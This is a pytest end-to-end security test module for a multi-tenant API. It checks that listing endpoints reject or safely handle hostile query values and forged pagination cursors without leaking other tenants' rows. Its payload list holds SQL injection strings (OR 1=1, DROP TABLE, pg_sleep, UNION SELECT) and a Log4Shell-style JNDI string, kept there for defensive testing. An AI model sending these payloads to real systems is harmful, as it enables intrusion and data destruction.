"""Hostile query strings against every listing: each answer is a 200 with
only the caller's rows (none, for these values) or a 400 problem naming the
parameter; never a server error, never another tenant's rows; and the
tables answer normally afterwards.

The listings are found in the OpenAPI document (guarded GET routes on a
collection that take ``sort`` and ``cursor``), their parameters likewise.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.e2e.conftest import as_user
from tests.e2e.world import World, build_world, new_tenant

PROBLEM = "application/problem+json"
WAIT_SECONDS = 90
NOT_FILTERS = frozenset({"min_position"})
"""Declared query parameters that are no filter (``min_position`` is typed by
FastAPI and answers 422 like every other typed parameter)."""

PAYLOADS = (
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE x; --',
    "1; SELECT pg_sleep(10) --",
    "') UNION SELECT tenant_id, NULL FROM pg_tables --",
    "%",
    "_",
    "%%",
    "\\",
    "\\%",
    "\x00",
    "a\x00b",
    "%00",
    "x" * 5000,
    "ünïcödé \u210c 🙂 \u202e",
    "\ufeff",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "-id,id,-id",
    "9" * 40,
    "-1",
    "1e309",
    "2026-02-30",
    "9999-12-31T23:59:59+99:00",
    "true' --",
    "null",
    "[]",
)
WILDCARDS = frozenset({"%", "_", "%%", "\\", "\\%"})

CURSOR_VALUES: tuple[Any, ...] = (
    "' OR 1=1 --",
    "x" * 600,
    10**30,
    -(2**63) - 1,
    1.5,
    True,
    None,
    [],
    {"k": 1},
    "9999-99-99",
    "0001-01-01T00:00:00",
    "00000000-0000-0000-0000-000000000000",
)
UNSTORABLE_TEXT = ("\x00", "\ud800")
"""Cursor key values Postgres cannot hold as text (a NUL, a lone surrogate):
they once reached the query and failed there with a 500."""


def listings(spec: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    """Each listing route and its declared query parameters."""
    found = {}
    for path, methods in spec["paths"].items():
        op = methods.get("get")
        if op is None or "{" in path or op.get("x-permission") in (None, "public"):
            continue
        query = [p for p in op.get("parameters", []) if p["in"] == "query"]
        names = {p["name"] for p in query}
        if {"sort", "cursor"} <= names:
            found[path] = [p for p in query if p["name"] not in NOT_FILTERS]
    return found


def sorts(parameters: list[dict[str, Any]]) -> list[str]:
    [sort] = [p for p in parameters if p["name"] == "sort"]
    return list(sort["schema"]["enum"])


def get(client: httpx.Client, path: str, headers, params) -> httpx.Response:
    """GET, retrying 503 while a read model catches up."""
    deadline = time.monotonic() + WAIT_SECONDS
    while True:
        r = client.get(path, headers=headers, params=params)
        if r.status_code != 503 or time.monotonic() > deadline:
            return r
        time.sleep(float(r.headers.get("retry-after", "1")))


class Answers:
    """Collects every answer that is neither an own-rows 200 nor a 400 (or,
    for text that is not one line, 422) problem naming the parameter."""

    def __init__(self, *strangers: World) -> None:
        self.strangers = strangers
        self.wrong: list[str] = []

    def check(
        self, path: str, parameter: str, value: Any, r: httpx.Response, *, none=True
    ) -> None:
        what = f"{path} {parameter}={str(value)[:40]!r}: {r.status_code}"
        if r.status_code in (400, 422):
            problem = r.headers["content-type"] == PROBLEM
            errors = r.json().get("errors", ()) if problem else ()
            # 422 only for text that is not a single line (the text rule)
            named = {
                e.get("field")
                for e in errors
                if r.status_code == 400 or e.get("type") == "unsafe_character"
            }
            if parameter not in named:
                self.wrong.append(f"{what} does not name it: {r.text[:300]}")
            return
        if r.status_code != 200:
            self.wrong.append(f"{what} {r.text[:300]}")
            return
        if any(s.leaked(r.text) for s in self.strangers):
            self.wrong.append(f"{what} shows another tenant's rows: {r.text[:300]}")
        elif (
            none
            and r.headers["content-type"].startswith("application/json")
            and r.json()["items"]
        ):
            self.wrong.append(f"{what} matched rows: {r.text[:300]}")

    def assert_none(self) -> None:
        assert not self.wrong, "\n".join(self.wrong)


@pytest.fixture(scope="module")
def client(base_url) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=base_url, timeout=30) as c:
        yield c


@pytest.fixture(scope="module")
def spec(client) -> dict[str, Any]:
    return client.get("/openapi.json").json()


@pytest.fixture(scope="module")
def tenants(client, pipeline) -> tuple[list[World], World]:
    """The caller's tenant, with two of everything (so that every listing has
    a next page), and a stranger's tenant whose rows must never show."""
    tenant = new_tenant("inject-a")
    own = [build_world(client, pipeline, tenant) for _ in range(2)]
    return own, build_world(client, pipeline, new_tenant("inject-b"))


def reader(world: World) -> dict[str, str]:
    return as_user(world.tenant, "tenant_admin", actor="ivy")


def test_hostile_filter_sort_and_cursor_values_are_200_or_a_problem_naming_them(
    client, spec, tenants
):
    own, stranger = tenants
    answers = Answers(stranger)
    me = reader(own[0])
    found = listings(spec)
    assert len(found) >= 8, sorted(found)
    position = {"min_position": max(w.position for w in (*own, stranger))}
    for path, parameters in found.items():
        assert get(client, path, me, position).status_code == 200, path
        for parameter in (p["name"] for p in parameters):
            for value in PAYLOADS:
                r = client.get(path, headers=me, params={parameter: value})
                answers.check(path, parameter, value, r)
            repeated = [(parameter, v) for v in PAYLOADS[:5]]
            answers.check(
                path,
                parameter,
                "(repeated)",
                client.get(path, headers=me, params=repeated),
            )
    answers.assert_none()


def test_wildcards_match_literally_in_free_text_and_prefixes(client, spec, tenants):
    own, stranger = tenants
    answers = Answers(stranger)
    me = reader(own[0])
    texts = 0
    for path, parameters in listings(spec).items():
        for p in parameters:
            schema = p["schema"]
            if schema.get("type") != "string" or "enum" in schema or "format" in schema:
                continue
            if p["name"] in ("sort", "cursor", "format"):
                continue
            texts += 1
            for value in WILDCARDS:
                r = client.get(path, headers=me, params={p["name"]: value})
                assert r.status_code == 200, (path, p["name"], r.text)
                answers.check(path, p["name"], value, r)
    assert texts >= 6
    answers.assert_none()


def test_an_escaped_wildcard_does_not_stand_for_the_character_it_replaces(
    client, tenants
):
    """Organizations are named "Matrix Pumps <hex>": a space matches, and
    "_" or "%" where the space is would too if they were wildcards."""
    own, _ = tenants
    names = {w.organization_name for w in own}

    def found(**params) -> set[str]:
        r = client.get("/organizations", headers=reader(own[0]), params=params)
        assert r.status_code == 200, r.text
        return {o["name"] for o in r.json()["items"]}

    assert found(name_prefix="matrix p") == names
    assert found(q="matrix pumps") == names
    for wildcard in ("_", "%"):
        assert found(name_prefix=f"matrix{wildcard}p") == set()
        assert found(q=f"matrix{wildcard}pumps") == set()


def _keys(cursor: str) -> dict[str, Any]:
    return json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)))


def _forged(cursor: str, index: int, value: Any) -> str:
    """``cursor`` with its ``index``-th key value replaced (fingerprint kept)."""
    decoded = _keys(cursor)
    decoded["k"][index] = value
    text = json.dumps(decoded, separators=(",", ":"))
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def forge_every_key(
    client: httpx.Client, spec, world: World, values, answers: Answers
) -> None:
    """For every listing and sort, a real next-page cursor with each of its
    key values in turn replaced by each of ``values``."""
    me = reader(world)
    for path, parameters in listings(spec).items():
        for sort in sorts(parameters):
            cursor = first_cursor(client, path, me, sort)
            for index in range(len(_keys(cursor)["k"])):
                for value in values:
                    forged = _forged(cursor, index, value)
                    params = {"sort": sort, "limit": "1", "cursor": forged}
                    r = client.get(path, headers=me, params=params)
                    answers.check(path, "cursor", value, r, none=False)


def first_cursor(client: httpx.Client, path: str, headers, sort: str) -> str:
    first = client.get(path, headers=headers, params={"sort": sort, "limit": 1})
    assert first.status_code == 200, (path, sort, first.text)
    cursor = first.json()["next_cursor"]
    assert cursor, (path, sort)
    return cursor


def test_a_forged_cursor_is_200_or_a_400_naming_it(client, spec, tenants):
    """The fingerprint is kept, so the forged values reach the query."""
    own, stranger = tenants
    answers = Answers(stranger)
    forge_every_key(client, spec, own[0], CURSOR_VALUES, answers)
    answers.assert_none()


def test_a_forged_cursor_with_text_postgres_cannot_store_is_a_400(
    client, spec, tenants
):
    own, stranger = tenants
    answers = Answers(stranger)
    forge_every_key(client, spec, own[0], UNSTORABLE_TEXT, answers)
    answers.assert_none()


def test_another_tenants_cursor_shows_only_the_callers_rows(client, spec, tenants):
    """Cursors position, they do not authorize."""
    own, stranger = tenants
    lent = Answers(*own)
    for path, parameters in listings(spec).items():
        for sort in sorts(parameters):
            cursor = first_cursor(client, path, reader(own[0]), sort)
            params = {"sort": sort, "limit": 200, "cursor": cursor}
            r = client.get(path, headers=reader(stranger), params=params)
            lent.check(path, "cursor", "(another tenant's)", r, none=False)
    lent.assert_none()


def test_every_listing_answers_normally_afterwards(client, spec, tenants):
    own, stranger = tenants
    for world in (*own, stranger):
        for path in listings(spec):
            r = get(client, path, reader(world), {"min_position": world.position})
            assert r.status_code == 200, (path, r.text)
            assert r.json()["items"], (path, world.tenant)
    organizations = client.get("/organizations", headers=reader(own[0])).json()
    assert {o["id"] for o in organizations["items"]} == {
        str(w.organization) for w in own
    }
